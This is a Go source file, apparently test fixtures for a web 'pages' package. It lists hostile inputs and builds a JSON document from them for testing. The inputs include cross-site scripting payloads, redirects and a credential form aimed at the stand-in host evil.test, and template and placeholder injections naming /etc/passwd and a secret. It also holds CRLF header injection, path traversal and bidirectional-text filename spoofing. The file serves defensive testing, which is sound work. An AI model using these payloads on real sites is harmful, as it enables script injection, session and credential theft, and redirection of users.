package pages

import (
	"encoding/json"
	"strings"
)

// hostile are texts that strangers may send, each meant to be more than a text.
var hostile = []string{
	`<script>pwned=1;alert(1)</script>`,
	`"><img src=x onerror="pwned=1;alert(1)">`,
	`' autofocus onfocus='pwned=1;alert(1)`,
	`</title></style></textarea></bdi></noscript><script>pwned=1;alert(1)</script>`,
	`<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1;alert(1)"><a href="http://evil.test/">x</a></svg>`,
	`javascript:pwned=1;alert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`<base href="http://evil.test/"><meta http-equiv="refresh" content="0; url=http://evil.test/">`,
	`<form action="http://evil.test/"><input name=key><button>Go on</button>`,
	`<link rel=stylesheet href=http://evil.test/x.css><style>@import "http://evil.test/y.css";*{display:none}</style>`,
	"\u202egnp.exe\u202c \u2066\u200f\u200e\u2069",
	`{{.}}{{template "page" .}}{{printf "%s" .Data}}`,
	`{env.CALLBACK_SECRET} {http.request.uri} {file./etc/passwd} {$HOME}`,
	`&lt;b&gt;&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`,
	`<!--<script>`, `]]>`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`X-Link-Status: Failed`, `__proto__`, `constructor`, `waiting`, `-`, `../../-/page.js`,
	`1e999999`, `-0`, `184467440737095516160000000000000000000001`,
	strings.Repeat("unbroken", 400),
	strings.Repeat("字", 600), "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
}

// hostileBytes are those that cannot stand in a header.
var hostileBytes = []string{
	"\x00\x01\x1b[31mred\x1b[0m\a\b\x7f", "\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>", "\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
	"\u2028pwned=1\u2029", "\ufeff<?xml version=\"1.0\"?><x/>",
}

// asHostileJSON returns a JSON document with all of them, as names and as values, and with what
// JSON itself has to offer.
func asHostileJSON() string {
	var b strings.Builder
	b.WriteString(`{"lone":"\ud800","pair":"\ude00\ud83d","huge":1e999999,"long":` + strings.Repeat("9", 400) + `,"deep":` +
		strings.Repeat("[", 200) + strings.Repeat("]", 200))
	for _, text := range append(append([]string{}, hostile...), hostileBytes[0], hostileBytes[1]) {
		quoted, _ := json.Marshal(text)
		b.WriteString("," + string(quoted) + ":" + string(quoted))
	}
	return b.String() + "}"
}

// isPrintable reports whether a text can be a correlation id.
func isPrintable(text string) bool {
	return !strings.ContainsFunc(text, func(r rune) bool { return r < ' ' || r > '~' })
}
